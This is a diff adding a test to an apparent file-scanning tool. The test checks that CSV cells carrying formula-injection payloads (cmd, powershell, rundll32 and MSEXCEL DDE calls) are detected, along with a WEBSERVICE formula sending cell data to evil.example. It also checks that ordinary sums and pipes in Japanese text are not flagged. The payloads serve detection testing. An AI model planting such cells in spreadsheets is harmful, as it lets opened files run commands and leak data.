@@ -274,3 +274,25 @@ test('a PDF script that saves a carried file and opens it is a launch; one that 
   const counts = (await look('a.pdf', pdf('AFNumber_Format\\(2,0,0,0,"",true\\);')))[0]
   assert.ok(!counts?.traits.some((one) => one.detail.startsWith('Launch')))
 })
+
+test('a table whose cell calls a program or a place is told; sums, negative figures and pipes in words are none', async () => {
+  const traitsOf = async (name: string, text: string) =>
+    (await look(name, Buffer.from(text)))[0]?.traits.map((one) => one.trait)
+  for (const cell of [
+    "=cmd|'/c powershell -w hidden'!A0",
+    "+MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    '=rundll32|/s!A1',
+  ])
+    for (const line of [`氏名,金額\n田中,${cell}\n`, `"${cell}",1\n`, `1;${cell}\n`])
+      assert.deepEqual(await traitsOf('名簿.csv', line), ['dde'], line)
+  assert.deepEqual(await traitsOf('a.csv', '=WEBSERVICE("https://evil.example/?q="&A1),1\n'), ['remote-template'])
+  for (const line of [
+    '=SUM(A1:A3),-1,+81-3-1234-5678',
+    '- 会議|議事録|資料!',
+    'a|b|c\n=A1|',
+    '@tanaka さん | 確認!',
+    '=HYPERLINK("https://a.example","a")',
+  ])
+    assert.deepEqual(await traitsOf('b.csv', `項目,値\n${line}\n`), [], line)
+})
